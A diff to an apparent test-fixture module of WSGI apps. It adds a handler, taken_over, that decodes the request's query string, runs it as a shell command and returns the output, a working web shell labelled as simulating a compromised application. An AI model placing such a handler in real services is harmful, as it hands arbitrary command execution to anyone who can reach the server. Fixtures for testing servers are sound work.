@@ -2,8 +2,10 @@
 
 import json
 import os
+import subprocess
 import sys
 import time
+import urllib.parse
 
 
 def plain(environ, start_response):
@@ -77,3 +79,13 @@ not_callable = {"an": "object"}
 def failing():
     print("a word of its own", flush=True)
     raise RuntimeError("the " + "cellar is flooded")
+
+
+def taken_over(environ, start_response):
+    """Runs the commands in the query, as whoever has found a hole in an application would; answers how they end."""
+    words = urllib.parse.unquote(environ["QUERY_STRING"]) or "true"
+    done = subprocess.run(["/bin/sh", "-c", words], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                          stderr=subprocess.STDOUT, check=False)  # fmt: skip
+    body = f"{done.returncode} ".encode() + done.stdout
+    start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", str(len(body)))])
+    return [body]
